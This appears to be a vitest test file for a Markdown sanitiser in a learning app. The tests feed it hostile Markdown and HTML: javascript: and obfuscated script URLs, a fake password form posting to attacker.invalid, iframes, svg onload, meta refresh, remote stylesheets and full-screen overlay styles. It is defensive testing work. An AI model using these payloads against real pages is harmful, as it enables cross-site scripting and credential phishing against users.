/**
 * The content allowlist (issue 22 item 2; SPEC §8: "content one learner shares with others
 * renders as text, math, code and same-origin or `data:` images only — no forms, frames,
 * styles or remote loads"). The URL, class and style rules are pure and tested in Node; the
 * sanitiser needs a DOM, so it runs in Debian's Chromium (test-support/chromium.ts) on hostile
 * Markdown, with the real KaTeX and highlight.js.
 */
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { runInChromium } from '../test-support/chromium';
import { rendererClasses, safeImageSource, safeLink, safeMathStyle, showsDestination } from './markdown-allowlist';

const origin = 'http://app.test';

describe('links, images, classes and KaTeX styles (pure rules)', () => {
  it('keeps absolute http, https and mailto links, with the host or address to show', () => {
    expect(safeLink('https://example.com/a?b=1')).toEqual({ href: 'https://example.com/a?b=1', destination: 'example.com' });
    expect(safeLink(' HTTP://Example.COM:8080/x ')).toEqual({ href: 'http://example.com:8080/x', destination: 'example.com:8080' });
    expect(safeLink('mailto:someone@example.com')).toEqual({ href: 'mailto:someone@example.com', destination: 'someone@example.com' });
    // A user name before the host does not hide where the link goes.
    expect(safeLink('https://example.com@attacker.invalid/')).toEqual({ href: 'https://example.com@attacker.invalid/', destination: 'attacker.invalid' });
    // Look-alike letters are shown as punycode.
    expect(safeLink('https://ехample.com/')?.destination).toBe('xn--ample-ywe6i.com');
  });

  it('refuses every other scheme, relative links and same-page anchors', () => {
    for (const href of ['javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:x', 'file:///etc/passwd', 'blob:http://app.test/1', '/api/me', '#/account', '//attacker.invalid/x', 'mailto:', 'https://']) {
      expect(safeLink(href), href).toBeNull();
    }
  });

  it('keeps images from this origin (made absolute) and data:image/*, nothing else', () => {
    expect(safeImageSource('/icon.png', origin)).toBe('http://app.test/icon.png');
    expect(safeImageSource('icon.png', origin)).toBe('http://app.test/icon.png');
    expect(safeImageSource('http://app.test/a.png', origin)).toBe('http://app.test/a.png');
    expect(safeImageSource('data:image/png;base64,iVBORw0KGgo=', origin)).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(safeImageSource('data:image/svg+xml,%3Csvg%3E', origin)).toBe('data:image/svg+xml,%3Csvg%3E');
    for (const source of ['http://attacker.invalid/x.png', '//attacker.invalid/x.png', 'https://app.test/a.png', 'http://app.test:81/a.png', 'data:text/html;base64,PGI+', 'data:,x', 'javascript:x']) {
      expect(safeImageSource(source, origin), source).toBeNull();
    }
  });

  it('keeps only the classes our renderer and highlight.js emit', () => {
    expect(rendererClasses('code-block')).toBe('code-block');
    expect(rendererClasses('hljs-title function_')).toBe('hljs-title function_');
    expect(rendererClasses('modal-backdrop header math-scroll dialog')).toBe('math-scroll');
    expect(rendererClasses('language-badge language-python')).toBeNull();
    expect(rendererClasses('katex katex-display vlist')).toBeNull();
  });

  it("reduces KaTeX's styles to its own properties and values", () => {
    expect(safeMathStyle('height:0.8141em;vertical-align:-0.25em;')).toBe('height:0.8141em;vertical-align:-0.25em');
    expect(safeMathStyle('top:-3.063em;margin-right:0.05em;color:#cc0000;position:relative')).toBe('top:-3.063em;margin-right:0.05em;color:#cc0000;position:relative');
    expect(safeMathStyle('border:0.04em solid red;background-color:yellow')).toBe('border:0.04em solid red;background-color:yellow');
    // An overlay, a remote load, a large shift to the left: dropped.
    expect(safeMathStyle('position:fixed;inset:0;z-index:9999')).toBe('');
    expect(safeMathStyle('background-image:url(http://attacker.invalid/x.png);width:100vw;height:calc(100vh)')).toBe('');
    expect(safeMathStyle('margin-right:-40em;margin-left:-4em')).toBe('margin-left:-4em');
    expect(safeMathStyle('color:red;x:1;;color')).toBe('color:red');
  });

  it('adds no host to a link whose text already shows it', () => {
    expect(showsDestination('https://example.org/page', 'example.org')).toBe(true);
    expect(showsDestination('Read EXAMPLE.org', 'example.org')).toBe(true);
    expect(showsDestination('Google', 'attacker.invalid')).toBe(false);
  });
});

// ---------------------------------------------------------------------------

const here = (file: string) => JSON.stringify(fileURLToPath(new URL(file, import.meta.url)));

interface Rendered {
  html: string;
  /** Computed `position` of every element once in the page. */
  positions: string[];
  /** `.strut` heights as set by `applyMathStyles`, and elements still carrying a `data-katex-style`. */
  strutHeights: string[];
  pendingStyles: number;
}

/** In Chromium: each case through the sanitiser (nonce fixed), into the page, KaTeX styles applied. */
const pageModule = `
import { applyMathStyles, createMarkdownSanitizer } from ${here('./markdown-allowlist.ts')};
import { renderMath } from ${here('./markdown-math.ts')};
import { highlightCode } from ${here('./markdown-highlight.ts')};

export default function run(cases: Record<string, { text: string; loaded?: boolean }>) {
  const sanitizer = createMarkdownSanitizer(window, { origin: ${JSON.stringify(origin)}, nonce: 'n0nce' });
  const loaded = { math: renderMath, highlight: highlightCode };
  const plain = { math: null, highlight: null };
  return Object.fromEntries(Object.entries(cases).map(([key, { text, loaded: isLoaded }]) => {
    const html = sanitizer.toSafeHtml(text, isLoaded ? loaded : plain);
    const box = document.createElement('div');
    box.innerHTML = html;
    document.body.append(box);
    applyMathStyles(box);
    const elements = [...box.querySelectorAll('*')];
    return [key, {
      html,
      positions: [...new Set(elements.map((element) => getComputedStyle(element).position))].sort(),
      strutHeights: [...box.querySelectorAll<HTMLElement>('.strut')].map((element) => element.style.height),
      pendingStyles: box.querySelectorAll('[data-katex-style]').length,
    }];
  }));
}`;

const cases = {
  form: {
    text: 'Sign in again:\n\n<form action="http://attacker.invalid/" method="post"><label>Password <input type="password" name="p"></label><textarea>t</textarea><select><option>o</option></select><button type="submit">Sign in</button></form>',
  },
  embedded: {
    text: '<iframe src="http://attacker.invalid/">inside</iframe><object data="http://attacker.invalid/x">obj</object><embed src="http://attacker.invalid/e"><style>body{display:none}</style><script>alert(1)</script><svg onload="alert(1)"><circle r="5"/></svg><math><mi>x</mi></math><link rel="stylesheet" href="http://attacker.invalid/s.css"><meta http-equiv="refresh" content="0;url=http://attacker.invalid/"><base href="http://attacker.invalid/">after',
  },
  overlay: {
    text: '<div class="modal-backdrop code-block dialog" style="position:fixed;inset:0;z-index:9999;background:white" id="root" name="x" data-x="1" aria-label="a" onclick="alert(1)" tabindex="5">Your session expired</div>',
  },
  links: {
    text: '[click](javascript:alert(1)) [rel](/api/me) [hash](#/account) [proto](//attacker.invalid/x) [ok](https://example.com/a?b=1) <https://example.org/page> [mail](mailto:someone@example.com) <a href="https://example.net" target="_top" rel="opener" onclick="x()" download>raw</a> <a href="jav&#x09;ascript:alert(1)">tab</a>',
  },
  images: {
    text: '![remote](http://attacker.invalid/x.png) ![same](/icon.png) ![data](data:image/png;base64,iVBORw0KGgo=) ![html](data:text/html;base64,PGI+) ![proto](//attacker.invalid/y.png) <img src="/ok.png" srcset="http://attacker.invalid/1x.png 1x" onerror="x()" width="9999" style="position:fixed">',
  },
  refusedLink: { text: '<a href="javascript:x()">go <img src="http://attacker.invalid/p.png" alt="p"> <b onclick="x()" style="position:fixed" class="header">bold</b><iframe src="http://attacker.invalid/"></iframe><a href="https://example.com/">in</a></a>' },
  tasks: { text: '- [ ] to do\n- [x] done' },
  renderer: { text: '| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n3. three\n4. four\n\n```python\nprint("x")\n```\n\n$x$ and $$y$$' },
  highlighted: { text: '```python\nclass A:\n    def f(self): return 1\n```\n\n<span class="hljs-keyword header">k</span> <code class="language-badge">c</code>', loaded: true },
  math: { text: '$\\frac{a}{b}$ and $\\color{red}{r}$ and $\\kern{-40em}x$ and $\\href{https://attacker.invalid}{h}$ and $\\htmlStyle{position:fixed}{s}$', loaded: true },
  display: { text: '$$\\sqrt{x^2}$$', loaded: true },
  forged: { text: '<span data-math-slot="guess-0">a</span> <span class="katex"><span style="position:fixed;inset:0" class="strut">b</span></span> $z$', loaded: true },
};

describe('the sanitiser, in Chromium', () => {
  let rendered: Record<keyof typeof cases, Rendered>;
  beforeAll(async () => {
    rendered = await runInChromium(pageModule, cases);
  }, 120_000);

  it('turns a credential form into its text: no form, input, textarea, select or button', () => {
    expect(rendered.form.html).toBe('<p>Sign in again:</p>\nPassword toSign in');
  });

  it('drops frames, objects, embeds, style and script elements, SVG, raw MathML, links, meta and base', () => {
    // An <object>'s fallback text stays (as text); nothing else of them.
    expect(rendered.embedded.html).toBe('objafter');
  });

  it('drops style, id, name, data-, aria-, event and tabindex attributes and app classes', () => {
    expect(rendered.overlay.html).toBe('<div class="code-block">Your session expired</div>');
    expect(rendered.overlay.positions).toEqual(['static']);
  });

  it('keeps http(s) and mailto links only, web pages in a new tab without the opener, their host or address shown', () => {
    const newTab = 'target="_blank" rel="noopener noreferrer nofollow"';
    expect(rendered.links.html).toBe(
      '<p>click rel hash proto ' +
        `<a href="https://example.com/a?b=1" ${newTab}>ok (example.com)</a> ` +
        `<a href="https://example.org/page" ${newTab}>https://example.org/page</a> ` +
        '<a href="mailto:someone@example.com" rel="noopener noreferrer nofollow">mail (someone@example.com)</a> ' +
        `<a href="https://example.net/" ${newTab}>raw (example.net)</a> tab</p>\n`,
    );
  });

  it('turns a refused link into its text, still sanitising what was inside it', () => {
    expect(rendered.refusedLink.html).toBe('<p>go p <b>bold</b><a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">in (example.com)</a></p>\n');
    expect(rendered.refusedLink.positions).toEqual(['static']);
  });

  it('keeps same-origin and data:image images (a refused one becomes its alt text), without srcset, size or events', () => {
    expect(rendered.images.html).toBe(
      '<p>remote <img src="http://app.test/icon.png" alt="same"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="data"> html proto <img src="http://app.test/ok.png"></p>\n',
    );
    expect(rendered.images.positions).toEqual(['static']);
  });

  it('shows task-list boxes as characters, not inputs', () => {
    expect(rendered.tasks.html).toBe('<ul>\n<li>☐ to do</li>\n<li>☑ done</li>\n</ul>\n');
  });

  it("leaves our renderer's own output as it was: scrolling tables, list starts, code blocks, math sources", () => {
    expect(rendered.renderer.html).toBe(
      '<div class="table-scroll" tabindex="0"><table><thead><tr><th align="center">a</th>\n<th align="right">b</th>\n</tr></thead>' +
        '<tbody><tr><td align="center">1</td>\n<td align="right">2</td>\n</tr></tbody></table></div>\n' +
        '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n' +
        '<pre class="code-block" tabindex="0" data-language="python"><code>print("x")\n</code></pre>\n' +
        '<p><span class="math-source">$x$</span> and </p><div class="math-source math-display">$$y$$</div><p></p>\n',
    );
  });

  it("keeps highlight.js's token classes, not an author's app classes", () => {
    expect(rendered.highlighted.html).toBe(
      '<pre class="code-block" tabindex="0" data-language="python"><code class="hljs"><span class="hljs-keyword">class</span> <span class="hljs-title class_">A</span>:\n' +
        '    <span class="hljs-keyword">def</span> <span class="hljs-title function_">f</span>(<span class="hljs-params">self</span>): <span class="hljs-keyword">return</span> <span class="hljs-number">1</span>\n' +
        '</code></pre>\n<p><span class="hljs-keyword">k</span> <code>c</code></p>\n',
    );
  });

  it("renders KaTeX with its own styles, set through the CSSOM, never as style attributes", () => {
    const { html, strutHeights, pendingStyles, positions } = rendered.math;
    expect(html).not.toMatch(/ style=/);
    expect(html.match(/<span class="katex">/g)).toHaveLength(5);
    expect(html).toContain('<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mrow><mfrac><mi>a</mi><mi>b</mi></mfrac></mrow><annotation encoding="application/x-tex">\\frac{a}{b}</annotation></semantics></math>');
    expect(html).toContain('<span class="mord mathnormal" data-katex-style="margin-right:0.0278em;color:red">r</span>');
    // \kern{-40em}: the space stays, its shift to the left does not.
    expect(html).toContain('<span class="mspace"></span><span class="mord mathnormal">x</span>');
    // trust is off: \href and \htmlStyle are errors shown as their name, no link, no style.
    expect(html).toContain('<span class="mord" data-katex-style="color:#cc0000">\\href</span>');
    expect(html).toContain('<span class="mord" data-katex-style="color:#cc0000">\\htmlStyle</span>');
    // (The TeX source, URL included, stays as the MathML annotation's text.)
    expect(html).not.toMatch(/<a[\s>]|href=/);
    expect(strutHeights).toEqual(['1.0404em', '0.4306em', '0.4306em', '1em', '1em']);
    expect(pendingStyles).toBe(0);
    expect(positions).toEqual(['static']);
  });

  it('keeps the SVG of display math in its scroll wrapper', () => {
    const { html, positions } = rendered.display;
    expect(html.startsWith('<span class="math-scroll" tabindex="0"><span class="katex-display"><span class="katex">')).toBe(true);
    expect(html).toMatch(/<svg xmlns="http:\/\/www.w3.org\/2000\/svg" width="400em" height="1.08em" viewBox="0 0 400000 1080" preserveAspectRatio="xMinYMin slice"><path d="M95,702\n?c-2.7,0,-7.17,-2.7/);
    expect(positions).toEqual(['static']);
  });

  it("cannot forge KaTeX's output: a marker without the nonce, or KaTeX classes and styles written by hand, are plain content", () => {
    expect(rendered.forged.html).toMatch(/^<p><span>a<\/span> <span><span>b<\/span><\/span> <span class="katex">/);
    expect(rendered.forged.positions).toEqual(['static']);
  });
});
